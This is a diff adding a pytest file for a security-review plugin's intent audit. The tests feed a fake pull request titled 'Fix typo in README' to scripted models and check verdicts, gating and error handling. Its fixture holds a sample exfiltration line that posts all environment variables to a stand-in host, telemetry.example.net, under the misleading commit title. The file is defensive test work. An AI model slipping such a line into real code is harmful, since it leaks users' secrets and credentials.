@@ -1,0 +1,291 @@
+"""The intent audit through the plugin (pytester) in a real git repository, judged by scripted
+models on a local OpenAI-compatible server: each verdict, the gate, a provider outage, no
+model at all; and the pieces it is built from (the statement, the verdict tool, the rule)."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from pytest_secreview.audit.statement import TRUNCATED, Statement, commit_messages
+from pytest_secreview.audit.verdict import Verdict, decide, provider_of, validate_verdict
+from pytest_secreview.rules.loader import bundled_rules_dir
+from pytest_secreview.rules.parse import parse_rule
+from tests.conftest import ReviewRepo
+from tests.fake_providers import FakeServer, FakeServers, Reply, openai_completion
+from tests.fake_providers import openai_tool_call as tool_call
+
+INTENT_RULE = bundled_rules_dir() / "intent.md"
+TITLE = "Fix typo in README"
+EXFILTRATION = (
+    "import os\n\nimport requests\n\nVERSION = '1.0'\n"
+    "requests.post('https://telemetry.example.net/c', json=dict(os.environ), timeout=3)\n"
+)
+
+
+@pytest.fixture
+def server() -> Iterator[FakeServer]:
+    with FakeServers() as running:
+        yield running.start()
+
+
+@pytest.fixture
+def typo_pr(pytester: pytest.Pytester, monkeypatch: pytest.MonkeyPatch) -> ReviewRepo:
+    """A pull request titled "Fix typo in README" that also posts the environment to a server;
+    the Actions event carries the title and body."""
+    repo = ReviewRepo(Path(pytester.path))
+    repo.write("README.md", "# Service\n\nInstal it with pip.\n")
+    repo.write("app/__init__.py", "import os\n\nVERSION = '1.0'\n")
+    repo.commit("base")
+    repo.branch("pr")
+    repo.write("README.md", "# Service\n\nInstall it with pip.\n")
+    repo.write("app/__init__.py", EXFILTRATION)
+    repo.commit(TITLE)
+    event = pytester.path.parent / "event.json"
+    event.write_text(json.dumps({"pull_request": {
+        "number": 7, "title": TITLE, "body": "Just a spelling fix. " * 200,
+    }}))
+    monkeypatch.setenv("GITHUB_EVENT_PATH", str(event))
+    for name in ("GITHUB_TOKEN", "SECREVIEW_GITHUB_TOKEN", "SECREVIEW_MODEL"):
+        monkeypatch.delenv(name, raising=False)
+    return repo
+
+
+def verdict(name: str, summary: str = "", **extra: Any) -> Reply:
+    args = {"verdict": name, "summary": summary or f"The model says {name}.",
+            "evidence": [{"path": "app/__init__.py", "line": 6, "category": "network",
+                          "explanation": "posts os.environ to an outside host"}], **extra}
+    return Reply(json=openai_completion(
+        tool_calls=[tool_call("v1", "report_verdict", json.dumps(args))],
+        finish_reason="tool_calls",
+        usage={"prompt_tokens": 900, "completion_tokens": 60, "total_tokens": 960}))
+
+
+def run(pytester: pytest.Pytester, server: FakeServer | None, *args: str,
+        subprocess: bool = False) -> pytest.RunResult:
+    report = pytester.path.parent / "report.json"
+    model = ("--secreview-model", "openai:gpt-4.1", "--secreview-api-base", server.url) \
+        if server is not None else ()
+    runner = pytester.runpytest_subprocess if subprocess else pytester.runpytest
+    return runner(
+        "--secreview", "--base", "main", "-p", "no:cacheprovider",
+        "--secreview-rules", str(INTENT_RULE), *model, "-rsw",
+        "--json-report", f"--json-report-file={report}",
+        "--secreview-artifacts", str(pytester.path.parent / "artifacts"), *args,
+    )
+
+
+def metadata(pytester: pytest.Pytester) -> dict[str, Any]:
+    report = json.loads((pytester.path.parent / "report.json").read_text())
+    (test,) = [t for t in report["tests"] if t["nodeid"].endswith("::intent")]
+    data: dict[str, Any] = test["metadata"]["secreview"]
+    return data
+
+
+def summary_item(pytester: pytest.Pytester) -> dict[str, Any]:
+    summary = json.loads(
+        (pytester.path.parent / "artifacts" / "report" / "summary.json").read_text())
+    (item,) = summary["items"]
+    assert item["path"] == "(pull request)"
+    return dict(item)
+
+
+def summary_markdown(pytester: pytest.Pytester) -> str:
+    return (pytester.path.parent / "artifacts" / "report" / "summary.md").read_text()
+
+
+ICONS = {"LIE": "🛑", "SUSPICIOUS": "⚠️"}
+
+
+def _evidence_keys(data: dict[str, Any]) -> set[tuple[str, str, str, int]]:
+    return {(i["category"], i["signal"], i["path"], i["line"]) for i in data["items"]}
+
+
+NETWORK = ("network", "HTTP client call", "app/__init__.py", 6)
+ENV_READ = ("environment", "environment variable read", "app/__init__.py", 6)
+
+
+def test_without_a_model_the_evidence_is_reported_and_the_item_skipped(
+    pytester: pytest.Pytester, typo_pr: ReviewRepo
+) -> None:
+    result = run(pytester, None)
+    result.assert_outcomes(skipped=1)
+    assert "intent audit needs a model" in result.stdout.str()
+    assert "network (" in result.stdout.str() and "environment (" in result.stdout.str()
+    meta = metadata(pytester)
+    assert meta["assessments"] == [] and meta["verdict"] is None
+    assert {NETWORK, ENV_READ} <= _evidence_keys(meta["risk_evidence"])
+    item = summary_item(pytester)
+    assert item["outcome"] == "skipped" and item["assessments"] == []
+    assert {NETWORK, ENV_READ} <= _evidence_keys(item["risk_evidence"])
+    markdown = summary_markdown(pytester)
+    assert "**Risk evidence** (deterministic, from the diff alone): " in markdown
+    assert "- `app/__init__.py:6` network · HTTP client call: `requests.post(" in markdown
+    assert "**Judgment:** none (intent audit needs a model" in markdown
+
+
+@pytest.mark.parametrize("name", ["LIE", "SUSPICIOUS"])
+def test_fix_typo_with_exfiltration_fails_on_lie_or_suspicious(
+    pytester: pytest.Pytester, typo_pr: ReviewRepo, server: FakeServer, name: str
+) -> None:
+    server.queue(verdict(name, "Says typo; posts the whole environment to telemetry.example.net."))
+    result = run(pytester, server)
+    result.assert_outcomes(failed=1)
+    out = result.stdout.str()
+    assert f"intent verdict {name} from openai:gpt-4.1" in out
+    assert "app/__init__.py:6 [network] posts os.environ to an outside host" in out
+    assert "risk evidence (deterministic): " in out
+    meta = metadata(pytester)
+    (assessment,) = meta["assessments"]
+    assert (assessment["provider"], assessment["model"], assessment["verdict"]) == (
+        "openai", "openai:gpt-4.1", name)
+    assert assessment["usage"]["input_tokens"] == 900 and assessment["error"] is None
+    assert {NETWORK, ENV_READ} <= _evidence_keys(meta["risk_evidence"])
+    item = summary_item(pytester)
+    assert item["assessments"][0]["verdict"] == name and item["outcome"] == "failed"
+    markdown = summary_markdown(pytester)
+    evidence_at = markdown.index("**Risk evidence** (deterministic")
+    judgment_at = markdown.index(f"**Judgment** by `openai:gpt-4.1`: {ICONS[name]} **{name}**")
+    assert evidence_at < judgment_at  # the math first, the opinion apart
+    # what the model was given: the title, the capped body, the commit message, the evidence
+    sent = server.requests[0].json
+    system, task = sent["messages"][0]["content"], sent["messages"][1]["content"]
+    assert "report_verdict" in system and "Verdicts" in system
+    assert f"Pull request title: {TITLE}" in task
+    assert TRUNCATED in task  # the 4,200-character body was cut at 2,000
+    assert f"--- commit 1 ---\n{TITLE}" in task
+    assert "app/__init__.py:6 [network] HTTP client call: requests.post(" in task
+    assert [t["function"]["name"] for t in sent["tools"]][-1] == "report_verdict"
+
+
+def test_same_evidence_and_verdict_under_xdist(
+    pytester: pytest.Pytester, typo_pr: ReviewRepo, server: FakeServer
+) -> None:
+    server._responder = lambda _request: verdict("LIE")
+    serial = run(pytester, server, subprocess=True)
+    serial.assert_outcomes(failed=1)
+    first = summary_item(pytester)
+    parallel = run(pytester, server, "-n", "2", subprocess=True)
+    parallel.assert_outcomes(failed=1)
+    second = summary_item(pytester)
+    assert second["risk_evidence"] == first["risk_evidence"]
+    assert [a["verdict"] for a in second["assessments"]] == ["LIE"]
+
+
+def test_suspicious_only_warns_under_the_lie_gate(
+    pytester: pytest.Pytester, typo_pr: ReviewRepo, server: FakeServer
+) -> None:
+    server.queue(verdict("SUSPICIOUS"))
+    result = run(pytester, server, "--secreview-intent-gate=lie")
+    result.assert_outcomes(passed=1, warnings=1)
+    assert "SUSPICIOUS (not failed: --secreview-intent-gate=lie)" in result.stdout.str()
+
+
+def test_match_passes(
+    pytester: pytest.Pytester, typo_pr: ReviewRepo, server: FakeServer
+) -> None:
+    server.queue(verdict("MATCH", evidence=[]))
+    run(pytester, server).assert_outcomes(passed=1)
+    assert metadata(pytester)["verdict"] == "MATCH"
+
+
+def test_an_error_verdict_is_an_error_never_a_pass(
+    pytester: pytest.Pytester, typo_pr: ReviewRepo, server: FakeServer
+) -> None:
+    server.queue(verdict("ERROR", evidence=[]))
+    result = run(pytester, server)
+    result.assert_outcomes(errors=1)
+    assert "intent audit could not be completed: the model answered ERROR" in result.stdout.str()
+
+
+def test_provider_outage_is_an_error_with_usage_or_a_skip_when_asked(
+    pytester: pytest.Pytester, typo_pr: ReviewRepo, server: FakeServer
+) -> None:
+    refusal = Reply(400, {"error": {"message": "model gpt-4.1 does not exist"}})
+    server.queue(refusal, refusal)
+    result = run(pytester, server)
+    result.assert_outcomes(errors=1)
+    assert "does not exist" in result.stdout.str()
+    (assessment,) = metadata(pytester)["assessments"]
+    assert assessment["verdict"] == "ERROR" and "does not exist" in assessment["error"]
+    assert assessment["usage"]["model_calls"] >= 1  # spent, even on failure
+    assert metadata(pytester)["risk_evidence"]["items"]  # the evidence stands regardless
+    skipped = run(pytester, server, "--secreview-on-error=skip")
+    skipped.assert_outcomes(skipped=1)
+
+
+def test_invalid_verdict_goes_back_to_the_model_which_corrects_it(
+    pytester: pytest.Pytester, typo_pr: ReviewRepo, server: FakeServer
+) -> None:
+    server.queue(verdict("MAYBE"), verdict("LIE"))
+    run(pytester, server).assert_outcomes(failed=1)
+    retry = server.requests[1].json["messages"][-1]
+    assert retry["role"] == "tool" and "report_verdict arguments are invalid" in retry["content"]
+
+
+def test_prompt_based_mode_ends_with_report_verdict(
+    pytester: pytest.Pytester, typo_pr: ReviewRepo, server: FakeServer
+) -> None:
+    text_call = ('<tool_call>{"name": "report_verdict", "args": {"verdict": "LIE", '
+                 '"summary": "typo title, exfiltration code", "evidence": []}}</tool_call>')
+    server.queue(Reply(json=openai_completion("I think this is fine.")),
+                 Reply(json=openai_completion(text_call)))
+    run(pytester, server).assert_outcomes(failed=1)
+    system = server.requests[1].json["messages"][0]["content"]
+    assert '<tool_call>{"name": "report_verdict", "args": {"verdict": "MATCH"' in system
+    assert metadata(pytester)["mode"] == "prompt"
+
+
+# -- pieces ---------------------------------------------------------------------------------
+
+
+def test_the_bundled_intent_rule_is_pull_request_scoped_with_metadata() -> None:
+    rule = parse_rule(INTENT_RULE.read_bytes(), "rules/intent.md")
+    assert (rule.id, rule.scope, rule.cwe) == ("intent", "pull_request", "CWE-506")
+    assert rule.needs_model and "report_verdict" in rule.instructions
+    for name in Verdict:
+        assert f"`{name.value}`" in rule.instructions
+
+
+def test_commit_messages_are_read_newest_first_and_capped(typo_pr: ReviewRepo) -> None:
+    typo_pr.write("x.txt", "x\n")
+    typo_pr.commit("second\n\n" + "long body " * 300)
+    base = typo_pr.git("rev-parse", "main").strip()
+    head = typo_pr.git("rev-parse", "HEAD").strip()
+    messages, omitted = commit_messages(typo_pr.path, base, head)
+    assert [m.splitlines()[0] for m in messages] == ["second", TITLE] and omitted == 0
+    statement = Statement.build("t", "", messages)
+    assert statement.commits[0].endswith(TRUNCATED) and len(statement.commits[0]) == 2000 + len(
+        TRUNCATED)
+    assert statement.commits[1] == TITLE
+
+
+@pytest.mark.parametrize(
+    ("verdict_name", "gate", "decision"),
+    [("MATCH", "suspicious", "pass"), ("LIE", "lie", "fail"), ("LIE", "suspicious", "fail"),
+     ("SUSPICIOUS", "suspicious", "fail"), ("SUSPICIOUS", "lie", "warn"),
+     ("ERROR", "lie", "error"), ("ERROR", "suspicious", "error")],
+)
+def test_decide(verdict_name: str, gate: Any, decision: str) -> None:
+    assert decide(Verdict(verdict_name), gate) == decision
+
+
+def test_verdict_arguments_are_validated_and_cleaned() -> None:
+    report = validate_verdict({"verdict": "lie", "summary": "x" * 3000, "evidence": []})
+    assert report.verdict is Verdict.LIE and report.summary.endswith("[TRUNCATED]")
+    with pytest.raises(ValueError, match="verdict"):
+        validate_verdict({"verdict": "PROBABLY", "summary": "s", "evidence": []})
+    with pytest.raises(ValueError, match="score: Extra inputs"):
+        validate_verdict({"verdict": "MATCH", "summary": "s", "evidence": [], "score": 1})
+
+
+@pytest.mark.parametrize(("model", "provider"), [
+    ("openai:gpt-4.1", "openai"), ("anthropic:claude", "anthropic"),
+    ("google/gemini-2.5-pro", "vertex"), ("custom-model", "custom"),
+])
+def test_provider_of(model: str, provider: str) -> None:
+    assert provider_of(model) == provider
